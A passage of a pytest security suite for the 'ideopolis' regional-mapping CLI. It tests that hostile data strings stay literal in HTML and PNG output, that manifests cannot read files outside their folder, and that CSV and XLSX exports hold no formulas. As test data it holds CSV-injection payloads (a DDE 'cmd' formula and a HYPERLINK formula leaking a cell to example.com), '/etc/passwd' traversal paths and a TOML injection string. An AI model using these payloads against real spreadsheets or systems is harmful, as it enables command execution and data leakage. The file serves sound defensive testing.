"""Text from data is only ever text: hostile strings on every route, folder containment, formula-safe exports.

Every test runs the real pipeline (CLI, engine, folium, matplotlib) on a copy of the toy set in which every
string is hostile (``tests/hostile.py``): template syntax must stay literal in the page and the PNG, a payload
that would run a command must create no marker file, ``$`` must print as typed. Then: files named in a
manifest stay inside the set's folder, a set's name never becomes a path, and exported CSV cells are never
spreadsheet formulas while ideopolis' own reader gets every string back exactly. See ``SECURITY.md``.
"""

from __future__ import annotations

import csv
import html
import json
import re
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import matplotlib
import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from matplotlib.text import Text
from typer.testing import CliRunner

from ideopolis.cli import app
from ideopolis.errors import DataFileError, RegionSetError
from ideopolis.maps import api as maps_api
from ideopolis.maps.interactive import prepare_map
from ideopolis.maps.layers import MapLayer, category_label
from ideopolis.maps.offline import inline_assets
from ideopolis.maps.static import static_map
from ideopolis.output import sidecar_path, write_csv
from ideopolis.output import write_table as write_frame
from ideopolis.regions.datasets import bundled_names
from ideopolis.regions.model import load_region_set, validate_region_set
from ideopolis.regions.readers import read_table
from ideopolis.safety import (
    FORMULA_TRIGGERS,
    MAX_STEM,
    PathOutsideFolderError,
    formula_safe,
    formula_unguarded,
    neutralise_formulas,
    resolve_inside,
    safe_file_stem,
    unique_file_stem,
)
from tests.hostile import HOSTILE, TOY, HostileSet, build_hostile_set, hostile
from tests.mapdata import synthetic_geometry, synthetic_names

#: Hostile strings that start with a formula trigger (each also a region-name prefix in the set).
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1",
    "carriage-return": "\r=1",
    "hyperlink": '=HYPERLINK("http://example.com/?leak="&A1,"x")',
    "dde": "=cmd|' /C calc'!A0",
}
#: Texts that look like a guard but are plain data: they must survive a write and a read unchanged.
GUARD_LOOKALIKES = ["'s-Hertogenbosch", "'=already quoted", "''+twice", "'", "-", "=", "-1.5"]


@pytest.fixture(params=list(HOSTILE), ids=list(HOSTILE))
def evil(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[HostileSet, Path]]:
    """The toy set with every string hostile, and the marker file an RCE payload would create."""
    marker = tmp_path / "MARKER"
    hs = build_hostile_set(tmp_path, hostile(request.param, marker))
    yield hs, marker
    assert not marker.exists(), "a payload in the data ran a command"


@pytest.fixture
def workdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty working folder (default outputs go to ./maps)."""
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    return work


def _ok(result: Any) -> None:
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output


def _script_json(page: str, element_id: str) -> Any:
    match = re.search(rf'<script type="application/json" id="{element_id}">(.*?)</script>', page, re.S)
    assert match, element_id
    return json.loads(match.group(1))


def _strings(obj: Any) -> Iterator[str]:
    """Every string in a JSON value (keys and values)."""
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield k
            yield from _strings(v)
    elif isinstance(obj, list):
        for v in obj:
            yield from _strings(v)


def _words_with_49(obj: Any, tmp: Path) -> list[str]:
    """Strings with a 49 in them, other than number ranges of legends (``"11.4 – 49.8"``).

    ``tmp`` (the test's temporary folder, which holds the marker path an RCE payload names) is taken out first:
    pytest numbers its folders (``pytest-349``), so a path may hold a 49 that no template computed.
    """
    texts = (_without_tmp(s, tmp) for s in _strings(obj))
    return [s for s in texts if "49" in s and re.search(r"[^\d.,%\s–-]", s)]


def _without_tmp(text: str, tmp: Path) -> str:
    """``text`` without the folder names of ``tmp``, as written, upper-cased or with ``_`` shown as spaces."""
    for part in [str(tmp), *tmp.parts]:
        if len(part) > 3:
            for form in {part, part.replace("_", " ")}:
                text = re.sub(re.escape(form), "", text, flags=re.IGNORECASE)
    return text


def _skeleton(page: str, tmp: Path) -> str:
    """The page without the inlined Leaflet/page assets, the two JSON payloads and the test's temporary folder."""
    page = _without_tmp(page, tmp)
    page = re.sub(r"_[0-9a-f]{32}\b", "_ID", page.replace(inline_assets(), ""))  # folium's random element ids
    return re.sub(r'<script type="application/json" id="ideopolis-(data|run)">.*?</script>', "", page, flags=re.S)


# ---------------------------------------------------------------------------------------------------------
# the interactive page


def test_map_page_shows_every_string_of_the_set_literally(
    evil: tuple[HostileSet, Path], runner: CliRunner, workdir: Path
) -> None:
    hs, _marker = evil
    title = f"{hs.text} map title"
    result = runner.invoke(app, ["map", "--regions", str(hs.folder), "--offline", "--title", title])
    _ok(result)
    target = Path("maps") / f"{safe_file_stem(hs.name)}.html"
    assert sorted(Path().rglob("*")) == [Path("maps"), target, sidecar_path(target)]  # the name is not a path
    page = target.read_text(encoding="utf-8")
    data, run = _script_json(page, "ideopolis-data"), _script_json(page, "ideopolis-run")

    assert data["title"] == title
    assert data["subtitle"] == hs.title
    assert data["names"] == hs.names
    assert data["ids"] == hs.ids
    assert data["idLabel"] == hs.column("GEOID").upper()
    assert data["source"].startswith(f"Data: {hs.text} source; second {hs.text} (")
    fields = {f["key"]: f for f in data["popup"]["fields"]}
    income = hs.column("median_income")
    assert fields[income]["label"] == hs.labels[income]
    assert fields[income]["unit"] == f"{hs.text} US$"
    assert fields[income]["vintage"] == f"{hs.text} 2023"
    assert fields[income]["source"] == f"{hs.text} source of median_income"
    assert {f["label"] for f in fields.values()} <= set(hs.labels.values())
    assert hs.pillar in [layer["key"] for layer in data["layers"]]  # a pillar named by the manifest
    assert run["region_set"] == hs.name
    assert f"<title>{html.escape(title)}</title>" in page

    # nothing evaluated: no 49 from {{7*7}} in any string of the page's data nor in the page around it
    folder = str(hs.folder.resolve())  # the run's profile names the set's folder (pytest's tmp path may hold a 49)
    tmp = _marker.parent
    assert _words_with_49(data, tmp) == [] and [s for s in _words_with_49(run, tmp) if s != folder] == []
    assert "49" not in _skeleton(page, tmp)
    assert "{{" not in _skeleton(page, tmp).replace(
        html.escape(_without_tmp(title, tmp)), ""
    )  # no template left unrendered either


def test_online_map_with_a_hostile_title(evil: tuple[HostileSet, Path], runner: CliRunner, workdir: Path) -> None:
    hs, _marker = evil
    result = runner.invoke(app, ["map", "--regions", str(hs.folder), "--title", hs.text, "--out", "online.html"])
    _ok(result)
    page = Path("online.html").read_text(encoding="utf-8")
    assert _script_json(page, "ideopolis-data")["title"] == hs.text
    assert "arcgisonline" in page  # the basemap: folium's own template, which sees no data string
    assert "49" not in _skeleton(page, _marker.parent)


def test_own_files_with_hostile_column_headers(evil: tuple[HostileSet, Path], runner: CliRunner, workdir: Path) -> None:
    """--geometry/--indicators/--id: headers of the user's table become indicator names and labels."""
    hs, _marker = evil
    args = [
        "map",
        "--geometry",
        str(hs.folder / "regions.geojson"),
        "--indicators",
        str(hs.folder / "indicators.csv"),
        "--id",
        hs.column("GEOID"),
        "--name-column",
        hs.column("name"),
        "--offline",
        "--out",
        "own.html",
    ]
    result = runner.invoke(app, args)
    _ok(result)
    data = _script_json(Path("own.html").read_text(encoding="utf-8"), "ideopolis-data")
    assert data["names"] == hs.names
    assert data["idLabel"] == hs.column("GEOID").upper()
    keys = {f["key"] for f in data["popup"]["fields"]}
    assert hs.column("median_income") in keys  # a hostile header, scored
    assert _words_with_49(data, _marker.parent) == []


def test_custom_region_names_from_a_mapping(evil: tuple[HostileSet, Path], runner: CliRunner, workdir: Path) -> None:
    hs, _marker = evil
    mapping = workdir / "mapping.csv"
    pd.DataFrame(
        {"base": ["01001", "01003", "02001"], "region": [f"{hs.text} west", f"{hs.text} west", hs.text]}
    ).to_csv(mapping, index=False)
    result = runner.invoke(app, ["map", "--regions", str(TOY), "--custom", str(mapping), "--offline", "-o", "c.html"])
    _ok(result)
    data = _script_json(Path("c.html").read_text(encoding="utf-8"), "ideopolis-data")
    assert {f"{hs.text} west", hs.text} <= set(data["names"])
    assert {f"{hs.text} west", hs.text} <= set(data["ids"])


def test_terminal_commands_print_hostile_strings_as_they_are(
    evil: tuple[HostileSet, Path], runner: CliRunner, workdir: Path
) -> None:
    hs, _marker = evil
    for args in (
        ["datasets", "--regions", str(hs.folder)],
        ["validate", str(hs.folder)],
        ["score", "--regions", str(hs.folder)],
        ["score", "--regions", str(hs.folder), "--explain", hs.ids[3]],
        ["hotspots", "--regions", str(hs.folder), "--permutations", "99"],
        ["peers", hs.ids[3], "--regions", str(hs.folder), "-k", "3"],
        ["whatif", hs.ids[3], "--regions", str(hs.folder), "--set", "ba_share=0.3", "--gain", "1"],
        ["compare", hs.ids[0], hs.ids[3], "--regions", str(hs.folder)],
        ["score", "--regions", str(hs.folder), "--where", "state == " + json.dumps(f"{hs.text.strip()} 01")],
    ):
        result = runner.invoke(app, args)
        _ok(result)
    datasets = runner.invoke(app, ["datasets", "--regions", str(hs.folder)])
    assert datasets.stdout.startswith(f"{hs.name}: {hs.title}\n")


# ---------------------------------------------------------------------------------------------------------
# reports: region profiles, comparisons and the methods note (Jinja2 with autoescape, data only as values)


def _page_text(page: str) -> str:
    """The text a reader sees: tags dropped, entities decoded."""
    return html.unescape(re.sub(r"<[^>]+>", " ", page))


def _assert_escaped(page: str, hs: HostileSet, *strings: str) -> None:
    text = _page_text(page)
    for string in strings:
        assert string in text, string  # shown as typed
        if any(c in string for c in "<>&\"'"):
            assert string not in page  # never as markup
    assert "<script" not in page and "onerror" not in re.sub(r"&[^;]+;|[^<]*(?=<)", "", page)
    assert "<img" not in page
    if "{{7*7}}" in hs.text:
        assert "{{7*7}}" in text  # the template expression stays literal


def test_profile_compare_and_methods_pages_show_every_string_literally(
    evil: tuple[HostileSet, Path], runner: CliRunner, workdir: Path
) -> None:
    hs, _marker = evil
    region = hs.ids[3]
    _ok(runner.invoke(app, ["profile", region, "--regions", str(hs.folder), "--out", "p.html", "--print", "p.png"]))
    page = Path("p.html").read_text(encoding="utf-8")
    name = hs.names[3]
    _assert_escaped(page, hs, name, hs.title, hs.labels[hs.column("median_income")], f"{hs.text} source of ba_share")
    title = re.search(r"<title>(.*?)</title>", page, re.S)
    heading = re.search(r"<h1>(.*?)</h1>", page, re.S)
    assert title and html.unescape(title.group(1)) == f"{name}: region profile"
    assert heading and html.unescape(heading.group(1)) == name
    assert sorted(p.name for p in Path().iterdir()) == ["p.html", "p.html.run.toml", "p.png"]

    _ok(runner.invoke(app, ["compare", hs.ids[0], region, "--regions", str(hs.folder), "--out", "c.html"]))
    _assert_escaped(Path("c.html").read_text(encoding="utf-8"), hs, hs.names[0], name, hs.title)

    _ok(runner.invoke(app, ["methods", "--regions", str(hs.folder), "--out", "m.html"]))
    note = Path("m.html").read_text(encoding="utf-8")
    _assert_escaped(note, hs, hs.title, f"{hs.text} source", hs.labels[hs.column("median_income")])


def test_profile_print_version_is_plain_text(evil: tuple[HostileSet, Path]) -> None:
    from ideopolis.api import score
    from ideopolis.report.printed import profile_figure

    hs, _marker = evil
    profile = score(str(hs.folder)).profile(hs.ids[3])
    with matplotlib.rc_context({"text.usetex": True}):  # a user's matplotlibrc: no string may reach TeX
        fig = profile_figure(profile)
        texts = _texts(fig)
        assert texts and all(t.get_parse_math() is False and not t.get_usetex() for t in texts)
        shown = " ".join(t.get_text() for t in texts)  # long lines are wrapped at spaces
        assert hs.names[3].strip() in shown and f"Region profile · {hs.title}" in shown
        assert hs.title in _svg_text(fig)


# ---------------------------------------------------------------------------------------------------------
# print maps


@pytest.fixture
def drawn_figures(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Keep every figure the CLI saves as PNG (the real figure, still written as PNG)."""
    figures: list[Any] = []
    save = maps_api.save_figure

    def keep(fig: Any, path: Any) -> int:
        figures.append(fig)
        return save(fig, path)

    monkeypatch.setattr(maps_api, "save_figure", keep)
    return figures


def _texts(fig: Any) -> list[Text]:
    return [t for t in fig.findobj(Text) if t.get_text()]


def _svg_text(fig: Any) -> str:
    """The figure as SVG with real text elements; return their text content, unescaped and joined."""
    import io

    buffer = io.StringIO()
    with matplotlib.rc_context({"svg.fonttype": "none"}):
        fig.savefig(buffer, format="svg")
    return html.unescape(" ".join(re.findall(r"<text[^>]*>(.*?)</text>", buffer.getvalue(), re.S)))


def _assert_plain(fig: Any, *expected: str) -> None:
    texts = _texts(fig)
    assert texts and all(t.get_parse_math() is False and not t.get_usetex() for t in texts)
    shown = [t.get_text().replace("\n", " ") for t in texts]  # long texts are wrapped at spaces
    svg = _svg_text(fig)
    for text in expected:
        assert any(text in s for s in shown), text
    for text in expected[:2]:  # title and subtitle: the SVG holds each of their lines as typed
        (drawn,) = [t.get_text() for t in texts if t.get_text().replace("\n", " ").startswith(text)][:1] or [text]
        assert all(line in svg for line in drawn.split("\n")), text


def test_png_titles_legends_and_source_are_plain_text(
    evil: tuple[HostileSet, Path], runner: CliRunner, workdir: Path, drawn_figures: list[Any]
) -> None:
    hs, _marker = evil
    result = runner.invoke(app, ["map", "--regions", str(hs.folder), "--png", "--layer", hs.pillar])
    _ok(result)
    png = f"{safe_file_stem(f'{hs.name}-{hs.pillar}')}.png"
    assert sorted(p.name for p in Path("maps").iterdir()) == [png, f"{png}.run.toml"]
    (fig,) = drawn_figures
    title = hs.pillar.replace("_", " ").capitalize()
    _assert_plain(fig, title, hs.title, f"Data: {hs.text} source; second {hs.text}")

    result = runner.invoke(
        app,
        ["hotspots", "--regions", str(hs.folder), "--indicator", hs.column("median_income"), "--png", "h.png"],
    )
    _ok(result)
    hot = drawn_figures[1]
    _assert_plain(hot, f"Hot and cold spots (Getis-Ord Gi*) of {hs.labels[hs.column('median_income')]}", hs.title)
    assert any(f"Data: {hs.text} source; second {hs.text}." in t.get_text().replace("\n", " ") for t in _texts(hot))


@pytest.mark.parametrize("key", list(HOSTILE), ids=list(HOSTILE))
def test_print_map_legend_and_inset_captions_are_plain_text(key: str, tmp_path: Path) -> None:
    """Category labels (legend) and state labels (inset captions) from the data; TeX switched on by the user."""
    text = hostile(key, tmp_path / "MARKER")
    geometry = synthetic_geometry()
    ids = geometry.index
    values = pd.Series([f"{text} a" if i % 2 else f"{text} b" for i in range(len(ids))], index=ids, name="cat")
    layer = MapLayer(key="cat", title=text, kind="categorical", categories=(f"{text} a", f"{text} b"))
    labels = pd.Series([f"{text} state" if i.startswith("I") else None for i in ids], index=ids)
    inputs = prepare_map(
        geometry,
        values.to_frame(),
        [layer],
        names=synthetic_names(ids),
        title=text,
        subtitle=f"{text} subtitle",
        source=f"{text} source",
        region_labels=labels,
    )
    with matplotlib.rc_context({"text.usetex": True}):  # a user's matplotlibrc: no string may reach TeX
        fig = static_map(
            inputs.prepared,
            inputs.layers[0],
            title=text,
            subtitle=f"{text} subtitle",
            source=text,
            labels=inputs.region_labels,
        )
        legend = [f"{category_label(f'{text} {c}')}  (" for c in "ab"]  # as every categorical legend shows it
        _assert_plain(fig, text, f"{text} subtitle", *legend, f"{text} state")
    assert not (tmp_path / "MARKER").exists()


# ---------------------------------------------------------------------------------------------------------
# a region set's files stay in its folder; its name is not a path


def _outside_case(toy_dir: Path, case: str) -> str:
    """Make ``toy_dir``'s manifest name a file outside it; return the file as the manifest names it."""
    outside = toy_dir.parent / "elsewhere"
    outside.mkdir()
    manifest = toy_dir / "manifest.toml"
    text = manifest.read_text(encoding="utf-8")
    if case == "geometry-dotdot":
        (toy_dir / "regions.geojson").rename(outside / "regions.geojson")
        named = "../elsewhere/regions.geojson"
        text = text.replace('file = "regions.geojson"', f'file = "{named}"')
    elif case == "table-absolute":
        (toy_dir / "indicators.csv").rename(outside / "indicators.csv")
        named = str(outside / "indicators.csv")
        text = text.replace('file = "indicators.csv"', f"file = {json.dumps(named)}")
    elif case == "geometry-symlink":
        (toy_dir / "regions.geojson").rename(outside / "regions.geojson")
        (toy_dir / "regions.geojson").symlink_to(outside / "regions.geojson")
        named = "regions.geojson"
    elif case == "long-table":
        (outside / "long.csv").write_text("GEOID,key,jobs\n01001,a,1\n", encoding="utf-8")
        named = "../elsewhere/long.csv"
        text += f'\n[[long_tables]]\nname = "jobs"\nfile = "{named}"\n'
    elif case == "reference-table":
        (outside / "codes.csv").write_text("naics,cluster\n1,a\n", encoding="utf-8")
        named = str(outside / "codes.csv")
        text += f'\n[[reference_tables]]\nname = "codes"\nfile = {json.dumps(named)}\nkey_column = "naics"\n'
    elif case == "datasheet":
        (outside / "DATASHEET.md").write_text("secret\n", encoding="utf-8")
        named = "../elsewhere/DATASHEET.md"
        text = text.replace("[region_set]\n", f'[region_set]\ndatasheet = "{named}"\n')
    else:  # pragma: no cover
        raise AssertionError(case)
    manifest.write_text(text, encoding="utf-8")
    return named


OUTSIDE_CASES = ["geometry-dotdot", "table-absolute", "geometry-symlink", "long-table", "reference-table", "datasheet"]


@pytest.mark.parametrize("case", OUTSIDE_CASES)
def test_a_manifest_cannot_read_files_outside_its_folder(case: str, toy_dir: Path, runner: CliRunner) -> None:
    named = _outside_case(toy_dir, case)
    with pytest.raises(RegionSetError) as err:
        load_region_set(toy_dir)
    message = str(err.value)
    assert f"{named!r} resolves to" in message and f"outside the region-set folder {toy_dir.resolve()}" in message
    assert "--allow-outside-paths" in message
    report = validate_region_set(toy_dir)
    assert [p.code for p in report.errors] == ["outside-folder"]  # reported once, and nothing else was read

    result = runner.invoke(app, ["validate", str(toy_dir)])
    assert result.exit_code == 1 and "outside-folder" not in result.output  # codes are for tests, not users
    assert f"{named!r} resolves to" in result.stdout
    for command in (["map", "--offline", "-o", str(toy_dir / "m.html")], ["score"], ["datasets"]):
        result = runner.invoke(app, [*command, "--regions", str(toy_dir)])
        assert result.exit_code == 1
        assert result.stderr.count("\n") == 1 and result.stderr.startswith("error: region set")
        assert f"{named!r} resolves to" in result.stderr and "Traceback" not in result.output
    assert not (toy_dir / "m.html").exists()

    rs = load_region_set(toy_dir, allow_outside_paths=True)  # the user vouches for the set
    assert len(rs.ids) == 6
    result = runner.invoke(app, ["score", "--regions", str(toy_dir), "--allow-outside-paths"])
    _ok(result)
    assert validate_region_set(toy_dir, allow_outside_paths=True).ok


def test_a_symlink_that_stays_inside_the_folder_is_fine(toy_dir: Path) -> None:
    (toy_dir / "data").mkdir()
    (toy_dir / "indicators.csv").rename(toy_dir / "data" / "indicators.csv")
    (toy_dir / "indicators.csv").symlink_to(toy_dir / "data" / "indicators.csv")
    assert len(load_region_set(toy_dir).ids) == 6


def test_resolve_inside() -> None:
    root = TOY
    assert resolve_inside(root, "indicators.csv") == (TOY / "indicators.csv").resolve()
    assert resolve_inside(root, "sub/../indicators.csv") == (TOY / "indicators.csv").resolve()
    for bad in ("../toy2/x.csv", "/etc/passwd", "..", "../toy/../indicators.csv"):
        with pytest.raises(PathOutsideFolderError, match="outside the region-set folder"):
            resolve_inside(root, bad)


@pytest.mark.parametrize("name", ["../../outside", "/tmp/absolute", "..", "maps/../../x", "C:\\Windows\\evil"])
def test_a_set_name_is_a_display_name_not_a_path(name: str, toy_dir: Path, runner: CliRunner, workdir: Path) -> None:
    manifest = toy_dir / "manifest.toml"
    manifest.write_text(manifest.read_text().replace('name = "toy"', f"name = {json.dumps(name)}"))
    manifest.write_text(
        manifest.read_text() + '\n[[long_tables]]\nname = "../../escape"\nfile = "long.csv"\n', encoding="utf-8"
    )
    (toy_dir / "long.csv").write_text("GEOID,key,jobs\n01001,a,1\n01003,b,2\n", encoding="utf-8")
    before = set(workdir.parent.rglob("*"))
    _ok(runner.invoke(app, ["map", "--regions", str(toy_dir), "--offline"]))
    _ok(runner.invoke(app, ["map", "--regions", str(toy_dir), "--png"]))
    mapping = workdir / "mapping.csv"
    mapping.write_text("base,region\n01001,west\n01003,west\n", encoding="utf-8")
    _ok(runner.invoke(app, ["custom", str(mapping), "--regions", str(toy_dir), "--out", "out"]))
    new = sorted(p.relative_to(workdir) for p in set(workdir.parent.rglob("*")) - before)
    stem = safe_file_stem(name)
    assert new == sorted(
        Path(p)
        for p in (
            "mapping.csv",
            "maps",
            f"maps/{stem}.html",
            f"maps/{stem}.html.run.toml",
            f"maps/{safe_file_stem(f'{name}-ideopolis_index')}.png",
            f"maps/{safe_file_stem(f'{name}-ideopolis_index')}.png.run.toml",
            "out",
            "out/escape.csv",
            "out/geometry.parquet",
            "out/indicators.csv",
            "out/manifest.toml",
            "out/members.csv",
        )
    )
    back = load_region_set(workdir / "out")
    assert back.long_table_names == ["../../escape", "members"]  # the name is kept, the file is safe
    assert sorted(back.long_table("../../escape")["key"]) == ["a", "b"]


def test_safe_file_stem_examples() -> None:
    assert safe_file_stem("us-metros") == "us-metros"
    assert safe_file_stem("eu-nuts2") == "eu-nuts2"
    assert safe_file_stem("../../etc/passwd") == "etc-passwd"
    assert safe_file_stem("Town {{7*7}}") == "Town-7-7"
    assert safe_file_stem("Île-de-France") == "Ile-de-France"
    assert safe_file_stem("..") == "region-set"
    assert safe_file_stem("東京") == "region-set"
    assert safe_file_stem("CON") == "CON_"
    assert safe_file_stem("x" * 300) == "x" * MAX_STEM
    assert [safe_file_stem(n) for n in bundled_names()] == bundled_names()
    taken: set[str] = {"indicators"}
    assert [unique_file_stem(n, taken) for n in ("a/b", "a-b", "A b", "indicators")] == [
        "a-b",
        "a-b-2",
        "A-b-3",
        "indicators-2",
    ]


@given(st.text())
@settings(max_examples=300, deadline=None)
def test_safe_file_stem_is_always_one_plain_name(name: str) -> None:
    stem = safe_file_stem(name)
    assert re.fullmatch(r"[A-Za-z0-9_]([A-Za-z0-9_-]*[A-Za-z0-9_])?", stem)
    assert len(stem) <= MAX_STEM + 1  # the reserved-name suffix
    assert safe_file_stem(stem) == stem
    assert Path(stem).name == stem and stem not in (".", "..")


# ---------------------------------------------------------------------------------------------------------
# exported tables: no formulas, numbers stay numbers, ideopolis reads its own files back exactly


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_formula_free(path: Path) -> None:
    for row in _csv_cells(path):
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or _number(cell), (path.name, cell)


@pytest.mark.parametrize("key", list(FORMULAS), ids=list(FORMULAS))
def test_score_and_hotspot_tables_hold_no_formulas(key: str, tmp_path: Path, runner: CliRunner) -> None:
    hs = build_hostile_set(tmp_path, FORMULAS[key])
    scores, hot = tmp_path / "scores.csv", tmp_path / "hot.csv"
    _ok(runner.invoke(app, ["score", "--regions", str(hs.folder), "--out", str(scores)]))
    _ok(runner.invoke(app, ["hotspots", "--regions", str(hs.folder), "--permutations", "99", "--out", str(hot)]))
    rs = load_region_set(hs.folder)  # ids and names as loaded (a leading tab or CR is stripped on reading)
    for path in (scores, hot):
        _assert_formula_free(path)
        table, _, _ = read_table(path)
        assert table["id"].tolist() == rs.ids.tolist()  # the guard is taken off on reading
        assert table["name"].tolist() == rs.names.tolist()
    # the run files beside them (tomli_w) read back as they were written
    score_log = tomllib.loads((tmp_path / "scores.csv.run.toml").read_text(encoding="utf-8"))
    assert score_log["regions"] == str(hs.folder.resolve())
    hot_log = tomllib.loads((tmp_path / "hot.csv.run.toml").read_text(encoding="utf-8"))
    assert hot_log["regions"] == str(hs.folder.resolve()) and hot_log["log"]["hotspots"]["n_regions"] == len(rs.ids)
    numbers = pd.read_csv(scores, index_col="id")
    assert pd.api.types.is_float_dtype(numbers["ideopolis_index"])  # numbers are written as numbers
    assert any(cell.startswith("'") for row in _csv_cells(scores) for cell in row)


@pytest.mark.parametrize("key", list(FORMULAS), ids=list(FORMULAS))
def test_workbooks_hold_no_formulas(key: str, tmp_path: Path, runner: CliRunner) -> None:
    """``score --out x.xlsx`` (every sheet) and ``hotspots --out x.xlsx``: a hostile name is a text cell."""
    import openpyxl

    hs = build_hostile_set(tmp_path, FORMULAS[key])
    scores, hot = tmp_path / "scores.xlsx", tmp_path / "hot.xlsx"
    _ok(runner.invoke(app, ["score", "--regions", str(hs.folder), "--out", str(scores)]))
    _ok(runner.invoke(app, ["hotspots", "--regions", str(hs.folder), "--permutations", "99", "--out", str(hot)]))
    rs = load_region_set(hs.folder)
    for path in (scores, hot):
        book = openpyxl.load_workbook(path)
        texts = []
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.value)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
                        assert not cell.value.startswith(FORMULA_TRIGGERS), (ws.title, cell.value)
        first = book.worksheets[0]
        names = [r[1] for r in first.iter_rows(min_row=2, values_only=True)]
        assert names == [formula_safe(n) for n in rs.names]  # a string with the guard, not a formula
        assert any(t.startswith("'") for t in texts)
        table, _, _ = read_table(path)  # ideopolis reads its own workbook back exactly
        assert table.iloc[:, 0].tolist() == rs.ids.tolist() and table.iloc[:, 1].tolist() == rs.names.tolist()


def test_write_frame_csv_guards_cells_headers_and_index(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"name": ["=1+1", "Ames", "@x"], "=bad header": [-1.5, 2.0, np.nan], "cls": pd.Categorical(["-a", "b", "-a"])},
        index=pd.Index(["+1", "2", "-3"], name="id"),
    )
    write_frame(frame, tmp_path / "t.csv")
    cells = _csv_cells(tmp_path / "t.csv")
    assert cells == [
        ["id", "name", "'=bad header", "cls"],
        ["'+1", "'=1+1", "-1.5", "'-a"],
        ["2", "Ames", "2.0", "b"],
        ["'-3", "'@x", "", "'-a"],
    ]
    table, _, _ = read_table(tmp_path / "t.csv")
    assert list(table.columns) == ["id", "name", "=bad header", "cls"]
    assert table["name"].tolist() == ["=1+1", "Ames", "@x"] and table["id"].tolist() == ["+1", "2", "-3"]
    assert frame["name"].tolist() == ["=1+1", "Ames", "@x"]  # the caller's frame is not changed


def test_custom_out_round_trips_hostile_strings(tmp_path: Path, runner: CliRunner) -> None:
    text = "Town {{7*7}} =1+1"
    hs = build_hostile_set(tmp_path, text)
    regions = [v for k, v in FORMULAS.items() if k not in ("tab", "carriage-return")]  # (ends are stripped)
    mapping = tmp_path / "mapping.csv"
    write_csv(pd.DataFrame({"base": hs.ids, "region": regions}), mapping, index=False)
    out = tmp_path / "out"
    _ok(runner.invoke(app, ["custom", str(mapping), "--regions", str(hs.folder), "--out", str(out)]))
    _assert_formula_free(out / "indicators.csv")
    _assert_formula_free(out / "members.csv")
    back = load_region_set(out)
    assert back.names.tolist() == regions == back.ids.tolist()
    assert back.groups["state"].tolist() == [f"{text} 01"] * 3 + [f"{text} 02"] * 3
    assert set(back.indicators) == set(load_region_set(hs.folder).indicators)
    members = back.long_table("members")
    assert members["base"].tolist() == hs.ids and members["base_name"].tolist() == hs.names
    assert back.long_table(hs.long_table)[f"{text} key"].tolist() == [f"{text} industry"] * len(hs.ids)
    assert back.indicators[hs.column("median_income")].label == hs.labels[hs.column("median_income")]

    lookalikes = GUARD_LOOKALIKES[:6]
    write_csv(pd.DataFrame({"base": hs.ids, "region": lookalikes}), mapping, index=False)
    _ok(runner.invoke(app, ["custom", str(mapping), "--regions", str(hs.folder), "--out", str(out)]))
    assert load_region_set(out).names.tolist() == lookalikes


def test_reading_takes_off_a_guard_another_tool_wrote(tmp_path: Path) -> None:
    """A cell another tool guarded the OWASP way (``'=x``) reads as ``=x``; other leading quotes stay."""
    path = tmp_path / "foreign.csv"
    path.write_text("id,name\n1,'=1+1\n2,'s-Hertogenbosch\n3,''+twice\n4,'\n5,'-1.5\n", encoding="utf-8")
    table, _, _ = read_table(path)
    assert table["name"].tolist() == ["=1+1", "'s-Hertogenbosch", "'+twice", "'", "-1.5"]


def test_notes_quoting_data_cannot_write_toml(toy_dir: Path, tmp_path: Path, runner: CliRunner) -> None:
    """A custom set's notes quote units; a line break in one must not end the comment it is written in."""
    manifest = toy_dir / "manifest.toml"
    injected = 'years\n[region_set]\nname = "pwned"\r\x0b\x1b[31m'
    text = manifest.read_text().replace('unit = "years"', f"unit = {json.dumps(injected)}")
    manifest.write_text(text, encoding="utf-8")
    mapping = tmp_path / "mapping.csv"
    mapping.write_text("base,region\n01001,west\n01003,west\n", encoding="utf-8")
    out = tmp_path / "out"
    _ok(runner.invoke(app, ["custom", str(mapping), "--regions", str(toy_dir), "--out", str(out), "--name", "ours"]))
    back = load_region_set(out)
    assert back.name == "ours"
    assert back.indicators["median_age"].unit == injected.strip()
    assert any(
        "pwned" in line and line.startswith("# note: ") for line in (out / "manifest.toml").read_text().splitlines()
    )


@given(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00")))
@settings(max_examples=300, deadline=None)
def test_the_guard_is_exactly_undone(text: str) -> None:
    guarded = formula_safe(text)
    assert formula_unguarded(guarded) == text
    assert isinstance(guarded, str) and not guarded.startswith(FORMULA_TRIGGERS)


@given(st.lists(st.text(st.characters(exclude_categories=("Cs",))), min_size=1, max_size=6))
@example(cells=[" ", "  Town", '"quoted"'])  # leading spaces survive (BEA's spaced quotes are read elsewhere)
@settings(max_examples=100, deadline=None)
def test_write_csv_then_read_table_gives_the_strings_back(
    tmp_path_factory: pytest.TempPathFactory, cells: list[str]
) -> None:
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    frame = pd.DataFrame({"id": [f"r{i}" for i in range(len(cells))], "text": cells})
    write_csv(frame, path, index=False)
    table, _, _ = read_table(path)
    assert table["text"].tolist() == cells


def test_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"x": [-1.0, 2.5], "n": [-3, 4], "b": [True, False]})
    out = neutralise_formulas(frame)
    pd.testing.assert_frame_equal(out, frame)
    assert formula_safe(-1) == -1 and formula_safe(None) is None


def test_guard_library_agrees_with_the_trigger_list() -> None:
    # OWASP "CSV Injection": = + - @ tab CR; OWASP ASVS: NUL
